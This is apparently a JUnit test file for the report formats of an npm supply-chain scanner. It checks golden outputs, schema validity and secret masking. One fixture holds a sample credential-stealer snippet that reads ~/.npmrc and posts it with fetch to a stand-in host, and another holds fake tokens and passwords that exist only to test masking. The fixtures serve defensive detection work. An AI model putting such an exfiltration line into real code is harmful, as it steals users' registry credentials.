package dev.portcullis.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import com.networknt.schema.ValidationMessage;
import dev.portcullis.json.Json;
import dev.portcullis.model.Finding;
import dev.portcullis.model.Location;
import dev.portcullis.model.RuleDescriptor;
import dev.portcullis.model.Severity;
import dev.portcullis.policy.Policy;
import dev.portcullis.policy.PolicyResult;
import dev.portcullis.project.Footprint;
import dev.portcullis.project.MicroPackages;
import dev.portcullis.testkit.Fixtures;
import dev.portcullis.testkit.NodeTools;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Golden files for every format (run with -Dportcullis.updateGolden=true to rewrite them, then review the diff),
 * and validation against the official SARIF 2.1.0 schema and the documented JSON schema.
 */
class ReportersTest {
    static final RuleDescriptor INSECURE = new RuleDescriptor("lockfile/insecure-url", Severity.HIGH,
            "Package fetched over an unencrypted connection", "Plain http can be altered in transit.",
            "Use https.");
    static final RuleDescriptor PIN = new RuleDescriptor("manifest/unpinned-range", Severity.LOW,
            "Direct dependency declared with a range", "Ranges float.", "Pin exact versions.");
    static final RuleDescriptor SCRIPTS = new RuleDescriptor("scripts/install-script", Severity.HIGH,
            "Package runs install scripts", "Install scripts run code.", "Allow it or disable scripts.");

    static final RuleDescriptor EXFIL = new RuleDescriptor("content/credential-exfiltration", Severity.CRITICAL,
            "Credentials sent over the network", "Reading tokens and sending them out is what credential stealers do.",
            "Do not install this version; report it to the registry.");

    static ScanReport sample() {
        Finding insecure = Finding.of(INSECURE, "lodash", "4.17.21",
                "lodash@4.17.21 is fetched over http://: http://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
                new Location("package-lock.json", 42));
        Finding pin = Finding.of(PIN, "express", "4.21.2", "express@\"^4.21.2\" is a range",
                new Location("package.json", 6));
        Finding scripts = Finding.of(SCRIPTS, "esbuild", "0.23.1", "esbuild@0.23.1 runs install scripts",
                new Location("package-lock.json", 80));
        Policy.Ignore ignore = new Policy.Ignore(SCRIPTS.id(), "esbuild", null, null, "reviewed in PR 12",
                LocalDate.of(2027, 1, 31), new Location("portcullis.yml", 12));
        Finding exfil = new Finding(EXFIL, Severity.CRITICAL, "evil-helper", "1.0.1",
                "reads ~/.npmrc and posts it to https://collect.example", new Location("evil-helper@1.0.1/install.js", 7),
                "const t = fs.readFileSync(os.homedir() + '/.npmrc');\nfetch('https://collect.example', {method: 'POST', body: t})");
        PolicyResult result = new PolicyResult(List.of(insecure, pin, exfil), List.of(new PolicyResult.Ignored(scripts,
                ignore)), Severity.HIGH, false);
        Footprint footprint = new Footprint(120, 131, 8, 112, 40, 80, 2, 9,
                Map.of("debug", List.of("2.6.9", "4.3.7")), List.of("esbuild@0.23.1"),
                List.of(new MicroPackages.Replacement("is-nan", "native", "0.10.0", "Number.isNaN")));
        return new ScanReport("0.1.0-test", new ScanReport.LockfileSummary("package-lock.json", "npm", "3"), result,
                footprint, List.of("registry metadata of 1 package(s) not read, so the meta/* rules did not judge "
                        + "them: left-pad@1.3.0 (cannot read https://registry.npmjs.org/left-pad: connection refused)"),
                List.of(EXFIL, INSECURE, PIN, SCRIPTS), new ScanReport.Deep(120, List.of(
                        new ScanReport.PackageVerdict("evil-helper", "1.0.1", dev.portcullis.model.Verdict.BLOCK))),
                List.of("yarn.lock is also present; scanned package-lock.json only"), ScanReport.Gate.POLICY);
    }

    static String render(ReportFormat format, Report report, boolean colour) throws IOException {
        StringWriter out = new StringWriter();
        format.reporter(colour).write(report, out);
        return out.toString();
    }

    @ParameterizedTest
    @MethodSource("formats")
    void matchesGoldenFile(ReportFormat format) throws IOException {
        matchesGolden("scan." + format.id(), render(format, sample(), false));
    }

    /** {@code actual} equals the golden file {@code name} (rewritten with -Dportcullis.updateGolden=true). */
    static void matchesGolden(String name, String actual) throws IOException {
        Path golden = Fixtures.repoRoot().resolve("portcullis-core/src/test/resources/dev/portcullis/report/golden/"
                + name);
        if (Boolean.getBoolean("portcullis.updateGolden")) {
            Files.createDirectories(golden.getParent());
            Files.writeString(golden, actual, StandardCharsets.UTF_8);
        }
        assertThat(actual).isEqualTo(Files.readString(golden, StandardCharsets.UTF_8));
    }

    /** Every format's output passes through the one redaction: a token in a message or evidence is masked. */
    @ParameterizedTest
    @MethodSource("formats")
    void everyFormatMasksSecrets(ReportFormat format) throws IOException {
        String token = "npm_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8";
        Finding leak = new Finding(EXFIL, Severity.CRITICAL, "evil-helper", "1.0.1",
                "posts //registry.npmjs.org/:_authToken=" + token + " to https://collect.example",
                new Location("evil-helper@1.0.1/install.js", 7), "const t = '" + token + "'; // password: hunter2");
        ScanReport report = new ScanReport("0.1.0-test", null, new PolicyResult(List.of(leak), List.of(),
                Severity.HIGH, false), Footprint.none(), List.of("https://user:pa55@npm.corp.example/ answered 500"),
                List.of(EXFIL));
        String out = render(format, report, false);
        assertThat(out).doesNotContain(token).doesNotContain("Q1w2E3r4").doesNotContain("hunter2")
                .doesNotContain("pa55").contains("***");
    }

    @Test
    void textColoursOnlyWhenAsked() throws IOException {
        assertThat(render(ReportFormat.TEXT, sample(), false)).doesNotContain("\u001b[");
        assertThat(render(ReportFormat.TEXT, sample(), true)).contains("\u001b[31;1m[HIGH]\u001b[0m");
    }

    @Test
    void sarifIsValidAgainstTheOfficialSchema() throws IOException {
        Path schemaFile = NodeTools.installed().resolve("node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json");
        JsonSchema schema = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V7)
                .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
        JsonNode sarif = Json.mapper().readTree(render(ReportFormat.SARIF, sample(), false));
        Set<ValidationMessage> errors = schema.validate(sarif);
        assertThat(errors).isEmpty();
        assertThat(sarif.at("/runs/0/tool/driver/rules").size()).isEqualTo(4);
        assertThat(sarif.at("/runs/0/results/0/locations/0/physicalLocation/region/startLine").asInt()).isEqualTo(42);
    }

    @Test
    void jsonFollowsTheDocumentedSchema() throws IOException {
        Path schemaFile = Fixtures.repoRoot().resolve("docs/scan-report.schema.json");
        JsonSchema schema = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012)
                .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
        JsonNode json = Json.mapper().readTree(render(ReportFormat.JSON, sample(), false));
        assertThat(schema.validate(json)).isEmpty();
        assertThat(json.at("/findings/0/rule").asText()).isEqualTo("lockfile/insecure-url");
        assertThat(json.at("/findings/0/location/line").asInt()).isEqualTo(42);
    }

    /** The formats of this kind of report. */
    static java.util.List<ReportFormat> formats() {
        return ReportFormat.of(ScanReport.class);
    }
}
